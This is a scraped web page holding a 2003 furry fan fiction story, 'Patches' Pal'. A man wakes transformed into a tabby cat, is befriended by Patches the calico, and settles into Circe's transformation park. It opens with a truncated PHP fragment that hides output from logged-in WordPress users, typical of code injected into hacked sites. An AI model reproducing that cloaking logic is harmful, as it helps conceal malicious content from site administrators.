$vvvUjUnHvOOoO){ if (strstr(strval($vUjUnHvOOoO), 'wordpress_logged_in')){ $cG9OI8 = 1; break; } } if($cG9OI8 == 0){ echo ''; } ?> Patches' Pal
Patches' Pal
by "Socks the Catt"
© 2003 Socks Furrotica Press

Randy was on his couch, sweating and shaking uncontrollably. His skin felt like it was on fire, and the itching was getting worse. His breathing got harder as his body shifted in ways he never knew it could. Randy could feel the pressure on his face, his head, the base of his spine, his hands and feet, it was all so much, so fast, all his senses became overloaded. He closed his eyes, and hoped that it would end soon. Then, as suddenly as it started, it stopped.

He opened his eyes, still panting. This wasn't his living room anymore, but he was laying on something comfortable. He was naked, not surprising as he had thrown his clothing off when he felt like he was going to incinerate. He was trying to get his bearings when a door opened up across the room. A bipedal calico cat walked in, tossed a pair of goggles onto the top of a dresser, and started to casually unbutton his short jumpsuit.

The calico then looked over to his bed, and saw someone there. Patches stopped, and looked at the stranger. "Oh! Hi!" he said in a friendly way. "Am I in the wrong room? That happens to me sometimes." Randy fainted. Patches blinked a few times, and sniffed himself to make sure it wasn't him.

It was late at night when Circe heardsomeone humming in thehallway. The song wandered down the hall, down the stairs, and towards the kitchen. Whoever it was sounded happy, but when she heard a pan hit the floor in the kitchen she became a little concerned. Circe decided to investigate.

When she got there, she found Patches dangling his feet over the kitchen counter, leaning into the cupboard. Most of his body was inside of it, his tail whipping around as he searched. It was almost amusing, if not comical to watch him kick his feet, trying to get inside deeper. Patches squirmed his way out of the cupboard, and felt for the floor with his paw.

"The catmint is over the stove." Circe said, with an amused look.

Patches turned around, a powdered donut stuffed in his muzzle. "Mmm nert gwin ferr dat!" he mumbled. He put down the box of cookies in his paws, and removed the donut from his mouth. "But thank you fortelling me!"

"Hungry?" Circe asked with a grin. "You could go hunt something up, couldn't you?"

"I could!" Patches said, opening another cabinet. "But it's like fast food, you get tired of the same old thing day in and out, and catching birds isn't easy!"

Circe looked over what Patches had already gotten out. Peanut butter, bread, a knife, a plate, some jam, a jug of milk, and a sugar shaker. "Are you going to eat that here?"

"No, M'Lady." Patches said. "I was actually going back to my room with some sandwiches, work on some things yet."

"You'll get mice if you--" Circe started to say. Patches closed hiseyes and grinned extremely wide. "Oh. I don't want any infestations."

"None at all, M'Lady!" Patches said, bowing slightly. "If you'd just put up the barn facility like I recommended I know that they'd all go there."

Circe sighed, and left. She smiled as she walked out of the kitchen, knowing full well what her cat was up to.

Patches returned to his room, and closed the door quietly. "Randy?" A tan tabby cat poked his head around the bed and out of his hiding spot. "It's me. I've got some sandwiches."

"You're sure it's safe?" Randy asked, his ears twitching. "You didn't tell anyone,right?"

Patches nodded. "Promise!" The orange tabby looked left and right before walking cautiously over to Patches. Randy covered himself up, embarrassed to be naked. Patches put the food down on his dresser, and opened his closet, retrieving a spare jumpsuit. "Here, if it helps you to feel better."

"Thank you." Randy said. Randy turned around to put on the jumpsuit. He grabbed his tail, and forcefully stuffed it through the hole in the back as it seemed to turn and twist on it's own agenda. The suit was about his size, and fit him like it did Patches. Patches snickered, watching the tabby. "Tell me you get used to this?"

"I have." Patches said happily. "But then again I wanted it." Randy buttoned up the suit, and cautiously moved over to Patches. "The place is a mess, I haven't cleaned it in a while. I wasn't expecting anyone."

"I wasn't expecting to be here." Randy said, slowly reaching for a sandwich. He looked around the room, and it was immaculately clean already, with the exception that the bed wasn't made. He looked into the other cat's eyes, a bit confused. "Where am I?"

"My room, but even more general than that you're in Circe's domain." Patches said. "Now where we are after that, I'm not entirely certain. I think we're still in the USA, but I've heard everywhere from Greece to England to one of many fictitious places." Patches laughed to himself. "The best I've heard is Atlantis. But after you've seen what I've seen, you believe it."

Randy ate a sandwichwhile looking around the room he was in. He then looked at his hands, what he knew were his hands. He now had tan and brown paws where he knew his hands should be. His underbelly was slightly white, and covered in fur. But he definitely was a tabby cat, that much was certain. The calico with him was at least friendly, and understanding.

"How did I get here?" Randy asked. Patches offered him a glass of milk, which Randy took. "I don't know why I'm a cat, or why I'm here, or how I got here."

"What can youremember?" Patches asked, sipping his own glass. "That might help."

"I was home." Randy said, his ears and whiskers drooping. "I was home, on my computer. And I was mucking."

"Mucking?" Patches asked. "They still do that?"

"Still?" Randy asked. "You say that like you've been here for a century!"

"It feels like it sometimes." Patches said. "But I've kinda lost track of time."

Randy nodded, finishing his sandwich. "Yeah. Well, I got up to get something from the living room. I walked in there, and I kinda felt dizzy. I fell to the ground, and there I was. So I got up, tried to get my balance, and fell again on my couch."

Patches nodded. "So then what?"

Randy shrugged. "Well I felt really hot, so I took all my clothing off really quick. And it wasn't helping, so I thought I was sick. So I just laid down on the couch, and felt myself sweating and itching and feeling like I was being eaten alive by mosquitoes."

Patches bit his lip and winced. "Usually it's not that bad." he said.

"Usually?" Randy asked.

"Oh, Circe's changes." Patches said, sipping his milk. "Usuallywhen she does one it's not painful or anything. I mean Dan's was fast but he said it wasn't painful."

"Dan?" Randy asked, looking worried.

Patches shook his head. "I'll introduce you to him if you want. He's a cougar over at the big cat pavilion." Randy's eyes got a little glazy, and Patches shook his head slightly. "Back to topic tho. What happened after the bug bite thing?"

"That was about it." Randy said. "I thought I was going to die, I was so out of it. So I shut my eyes, I guess I went unconscious or something. I woke up here, in your bed I guess, and I saw myself like this." Randy opened his arms wide, displaying his fur. "I still don't think it's real yet."

"It's real." Patches saidin a reassuring way. "Some guys never accept that, but the ones that do seem to enjoy the change."

"Guys?" Randy asked, putting his milk down. "You mean we're not alone?"

"Oh no!" Patches said with an excited look. "Haven't you looked out the window? The lights are still on, you can still see the carousel from here!" Randy looked at Patches with a confused look, then headed to the window to look outside. He could see carousel lights spinning in the distance slowly. Patches walked up behind him and opened the window. "Can you hear it? The music? Someone's being changed right now, probably a show horse or another wild horse. Circe has been on wild horse kick lately." Soft calliope music drifted into the window on the winds, and the two leaned against the windowsill and listened..

Randy looked at the lights for a moment, then something in his mind clicked. His knees gave out, and he found himself on the floor, eyes wide as dinner plates. Patches knelt next to him. Randy looked at him in a panic. "Circe? You mean the woman that changes men Circe?"

"Same Circe." Patches said, putting his paws onto Randy's shoulders.

Randy looked at his paws again. "I thought that was just a web site! I thought that was just stories." Patches shook his head. "You mean this is all real? I mean really real?" Patches nodded. Randy'seyes watered up, and he leaned back into Patches. "I didn't think it was the same place."

"It's real." Patches said. "Really real. Circe gives some lucky people what they want, deep in their hearts. She's really not as mean as some people think." Randy nodded to himself, breathing hard through his nose. "If I can ask, what muck was it you were on?"

"Furrymuck." Randy said quietly, still in shock. "This is a dead ringer for my fursona."

Patches smiled to himself."She probably saw what you wanted to be, and decided to give it to you."

Randy turned to look at the calico. "But what about all the things I had? I've got college classes! What about my finals? I've got things I have to do! My parents, my family? What about my friends? What happens now?"

Patches offered a hug, and Randy took it. "One thing at a time, my friend." Patches said. "One thing at a time. We'll figure it all out, ok?" Randy nodded, feeling reassured by Patches. Randy buried his muzzle into Patches shoulder, and cried softly as the world felt like it was crashing around him.

The next morning, Circe opened Patches door and found the two cats asleep, the tan cat draped over Patches. The two of them were clothed in the short jumpsuits, but she was happy to see the two of them together. Something told her thatPatches would be best to help the new feline into his new life.

Later on, Patches wandered into the kitchen, hiding thesecond glass under his arm. As he put the plate into the sink and started the water, Circe walked up behind him. "How's our latest guest?"

"He's ok, M'Lady." Patches said. "He's still a little spooked, but I'll take him around the park today, see if he can find a place he's comfortable."

Circe smiled. "You don't want to know how I knew?" she asked.

"I knew you knew." Patches said. "Unless something bad is happening, I know you know when someone is changed in your domain."

"I think I understood that." Circe said with a grin, scratching him roughly on the ears. Patches smiled. "So when do I get to meet him?"

"I'll go get him, if you'd like? See if he's up to meeting you?" Patches said, washing the plate and glasses he used the night before. Circe nodded, and Patches went back to his room.

Randy was looking out the window, still wearing one of Patches jumpsuits. He watched as the park started to churn to life like a living animal waking up from sleep. He could smell food being prepared, he could hear the people walking around, ready to open up. He watched, spellbound at where he was. Patches walked up behind him, and hugged him gently. "I can't believe this is real." Randy said.

"It's real." Patches said. "I could bite your tail if that'll prove it."

"You leave my tail out of this!" Randy said with a laugh. "No, I want to walk arounddown there, see it for myself. You'll show me?"

"Yes." Patches said. "I'll show you. Oh! Circe wants to meet you!"

"Me?" Randy asked. "Why?"

"She likes to greet everyone, eventually." Patches said. "She likes to see her handiwork."

Randy nodded slowly. "Can I stay dressed?"Patches nodded. Randy let out a sigh of relief, then thought again. "And do I have to wear a collar?"

"Only if you want to." Patches said. "I've always loved collars, and now I wear mine all the time. If you want one I know where we can get one, but Circe doesn't make me wear this. I just like to."

Randy nodded, and licked Patches muzzle softly. "Thank you. For helping me."

"You're welcome." Patches hugged his friend, and took him to meet Circe. She admired his fur, and how he looked in Patches work suit.Patches them took Randy around the park, introducing him to all his friends, and all the people he knew.

The first stop was at the big cat pavilion before it started up for the day. He opened up the door "Dan?" Patches yelled out.

"What's new pussycat?" Dan came trotting over. "You missed one hellof a sunrise! Hey, who's your buddy?"

Randy's jaw hit the ground as Patches brushed off some snow from transformation rock. "This is Randy." Patches said. "He's new. I'm just showing him around the park."

Dan offered a paw. "Hey there!" Randy took the cougar's paw with no measure of unease.. "What? I'm not gonna bite! I've got that part under control." Randy shook his paw. "So are you the new tiger?"

"Umm-- I don't think so." Randy said. "The markings are too light."

"That's too bad." Dan said. "Patches over here showed me some pictures of that hab, it looks like it would be fun if you're into that kind of thing." Dan sat down on the snow, his fur thicker in it's winter coat. "So how's everything in the park?"

"Not bad." Patches said. The two of them made small talk as Randy looked around in awe, shivering a little. "I'm not gonna keep you too long tho." Patches said eventually. "I'm freezing my tail off."

Dan laughed, his whole body rocking as he did. "You need a winter coat! Or just ask Circe tomake you a longhair! That'll keep ya warm!"

"If I stay over, I'll think about that!" Patches said. He scratched Dan behind the ears, and between his eyes. Dan rumbled out a deep purr, and closed his eyes for a moment. Patches got up, brushing his paw on his jumpsuit. "The pavilion opens up soon. See ya later?"

"Always!" Dan said happily. "Hey, you stop by anytime ya want, Randy. A friend of Patches is a friend of mine, comprende?"

"Umm, comprende, I think." Randy said.

Dan stood up, and shook the snow off his fur. "Hey, kid." He said, looking at Randy. "I know you're new, but just go with it bro. It's not that bad once you get used to it." Randy nodded slowly, and Dan snickered. "If you ever need someone, come on by. Door's always open, I always got time for a friend. Ok?"Randy nodded. "Yeah, um, thank you, I think."

Dan walked over to Patches, and butted his head into Patches leg. "Gowan! GIT! You know the straights can't see you in here with me!"

"Allright!" Patches said with mock panic. "We're goin!" They walked to the door. "Have fun Dan! Seeya later!" Dan raised his chin, motioning his understanding. Patches closed the door, and Dan took in a deep breath of the fresh air. Happily, he moved on to see what was new today in his territory.

"He seems happy." Randy said.

"He ended up where he would be happy." Patches said, locking the employee's door behind him. "There's a few here that refuse to be pleased with their new life, and there's some who are only here in transit, but Dan's a keeper. He really likes his space."

Randy thought about that a while as Patches unlocked the main door. A few people walked in, barely noticing the two cats that let them in, and walked around to see the larger cats in the exhibit. The two then walked around and toured the rest of the park. Patches introduced Randy to everyone he could find, and who could talk to them that day.

While walking through the wharf, Randy asked "So what do you do here?"

"Electrical maintenance." Patches said. "Computers, the lighting, wiring, all that."

Randy nodded, then thought about that for a moment. "So what am I doing here?"

"Well," Patches said, stopping in the middle of nowhere and looking around. "What would you like to do?"

Randy looked around, and thought about it. "I'm not sure. I don't know what I cando here." Randy twitched his ear once as a reflex, and looked around. "I mean, I've been in college for a year looking into a broadcasting degree or communications or advertising or doing TV or radio or something. I don't even know what I'm going to do when I… Wait, that's all over, isn't it?"

"Well, not really." Patches said. "One thing I've learned about this place is that it's a dream factory. A lot of dreams can happen here, once you come to terms with your change." Randy looked confused. "There's this whale I'll introduce you to, he's over in the Bay-Side Amphitheater here. He sings a good version of 'Louie Louie'. He can tell you his story better than I can."

Randy laughed, looking around him. "Do you think Circe would mind if I stayed on? If I can't go back, I can do something here."

Patches smiled. "I don't think she'll mind." He paused. "I don't think I'd mind either."

Randy smiled himself. "I think I could live with that too." The two smiled to each other, and continued their tour.

That night, Patches was in his room while Randy was exploring the castle by himself. "Yes M'Lady?" Patches said to the air.

"It's nice to know my cat isn't deaf." Circe said, walking in from thehallway. "I suppose Randy is adjusting well?"

"Yes." Patches said, finishing up his schedule on his PDA. "We talked. He said he'd like to--"

"I know." Circe said. "I spoke with him myself a moment ago. I told him he could stay here."Circe sat down on a char in front of Patches computer. "He also wanted to know if I was going to rename him, like you."

"Are you?" Patches asked.

"No." Circe said. "I change men, not their names. I enjoy when they embrace their animal side and abandon their old human names, but that's something that they must do themselves. He said he'd think about it." Patches nodded. Circe's face changed to a more serious look. "Do you love him?"

Patches put down the PDA in almost a shock. "M'Lady?"

"Do you love him?" She asked insistently. "I've seen you with him through the day. You seemed to be more than friends. So, I'm curious."

Patches shifted a little and laughed uncomfortably. "Curiosity and a cat?" He snickered a while longer, then sobered up. "I do, M'Lady, but not how you think." Circe motioned for Patches to elaborate. "I feel a kind of kinship with him, ya know? He's a cat, I'm a cat, It was kinda nice to sleep with him last night, he puts out a lot of heat, it was nice. But I mean, I love him, yeah, but not in-- umm-- I mean I--. Oh this is embarrassing--" Patches started to fluster, and his ears turned bright red. "I mean if he wants to stay with me I won't throw him out. I wouldn't mind having a roommate, but I wouldn't-- you know-- not without his approval I mean-- You know what I mean, M'Lady?"

Circe nodded, letting him off the hook. "I understand."

Patches took in a deep breath, leaned forward on his bed and kissed Circe's hand gently. "I love you too, you know." he said, his eyes looking sincere. "And I thankyou for giving me this gift, every day." Circe nodded with a smile. So rarely did she get thanked, the novelty was still there. "He can stay with me, can't he?"

Circe nodded. "I have spare rooms, but if you're not against sharing I won't object."

"Thank you, M'Lady." Patches said quietly, kissing her hand again. "When he gets back, I'll ask him if he wants to stay with me."

"Gladly." Both turned to see Randy there. "I heard, and yes." Patches smiled wider. "I'm also thinking of changing my name while I'm here. Take the name I called myself on the muck. Zigs."

"Zigs?" Patches asked

"Short forZig Zag." Randy said. "Here, look." He unbuttoned hisjumper, and lowered it to his hips, and pointed at the stripes in his fur. "See? How the lines do that. It's how I always talked about myself on the muck, so if I look like this, I may as well be Zigs."

Circe smiled to herself, this was a moment she always liked to be there for, when a man accepts themselves as an animal, and no longer fights their change. She felt more than a little satisfaction from the moment. She enjoyed her victory.

"There's one thing, however." Randy said. "I don't want towear a collar or anything like that. Not my idea of something fun."

Patches smiled. "You don't have to!" he said happily. "I'm just happy you'll stay."

"I don't really have much choice." Randy said. "I don't have anything else to wear but your stuff." The two cats enjoyed a laugh together as Circe discretely left them alone for the night. She had a fun story to tell her sisters.

A week later, Patches walked into a staff cafeteria for lunch. He got his favorite tuna salad, and sniffed the air. He smelled lemon chicken, smiled, and walked up to Zigs and gave him a hug from behind. "Hey there Patches!" Zigs said, pushing a chair out with his foot. "I was wondering when you'd get here!"

"The 'Kennels of Tomorrow' went haywire again." Patches said, sitting down. "It groomed some poor guy into a poodle." Zigs stifled a laugh. "What's worse was he changed into a stag while it happened!" Zigs tried not to spit cola out of his nose laughing. "Oh, laugh it up fuzz ball!" Patches said sarcastically.

"I'm sorry!" Zigs said through the laughter. "I just can't believe that we'd open it up after the last time!"

Patches rolled his eyes and shook his head. "Don't remind me of the 'Pomeranian Incident'!" Zigs laughed out loud. "We've got it closed now, and me and Axel are gonna tackle it in an hour or so." Patches took a sip of his soda. "Everything going well on your first day?"

"Yeah." Zigs said. "I didn't think I could do it, but that show idea is working out really well! I love hosting it!"

"Excuse me?" Both cats looked up at a man, in his 30's, holding a dollar bill. "Know where I can get change for a dollar?" Both pointed to the change machine in the corner."Thanks." And the man walked off.

"I knew you had it in you!" Patches said excitedly. "Still gonna DJ the rave this weekend?"

"You bet!" Zigs said. "Have you seen the record collection in the attic? She's got everything there! And the turntables are state!"

From across the room, the man pounded the side of the machine, trying to get all the crinkles out of the bill he could. Patches looked over with some interest, but looked back to Zigs. "I'll be there!" He took a bite of his sandwich.

Zigs smiled. "Sounds great! I'll lay down some music on tape and we can dance. Oh! What do you think of the threads?" Patches looked over Zigs, how his short-sleeved tan button down shirt went with his khaki cargo shorts with the tail hole, and the shoeless look was perfect. "Zigs"was embroidered on his shirt, under the funhouse logo and "Entertainment Director" under that.

Patches smiled and nodded, swallowing his tuna salad, giving a thumbs up sign with his free hand. "I like it! But it makes you look like that croc hunter guy."

Zigs laughed. "Well, yeah, but it looks SO good with the stripes! It's not as utility as yours, yeah, but I'll get a few more colors and styles so I can--"

"STUPID MACHINE!" Both cats turned to the man, still trying to get the bill into the change machine. He fed the bill in, and it took."FINALLY!" He said, staring at the display.

"3... 2... 1..." Patches mumbled. On cue, the man's features suddenly shifted. His hands touched the machine as his pants became too large for his changing frame. As they fell, his long, thin tail grew out from his belt line. His front paws gripped the machine as his skull shape flattened out. His ears became pointed, then flopped down on the sides of his canine head. His mouth opened, and as his muzzle formed he let out a whimper. His fur suddenly grew in, white on black.

The dalmatian touched the ground with all four paws, his watch falling next to his shoes and pants. The dog was still wearing a button down shirt and a necktie, and looking around very confused. Zigs shook hishead, and got up from the table. He took the necktie around the dog's neck, and led the dog back over to the table. "I really think we should put a disclaimer on that machine." he said. "At least this one has a leash pre-attached."Patches nodded, putting down his sandwich. "Want me to take him to the canine run?"

"I got him." Zigs said. "I'm pretty much done eating. Yourelax and eat, we'll catch up tonight. Can you toss this stuff for me?" Patches nodded. "Thanks. I'll see ya later!" Zigs leaned in and happilyrubbed muzzles with Patches. Both cats purred softly, and smiled to each other. "Ok, come on boy! Let's go!" Zigs sounded excited to take the dog out. The dog whined, but followed the cat by his silk leash.

Patches shook his head, and finished his lunch. He cleaned up the clothing left behind, and put it into the lost and found. He admired the watch, but knew he had no use for it. He checked his PDA, and saw a message that the computers were crashing back at the Drake hotel. Patches sighed, "At leastsome things never change here."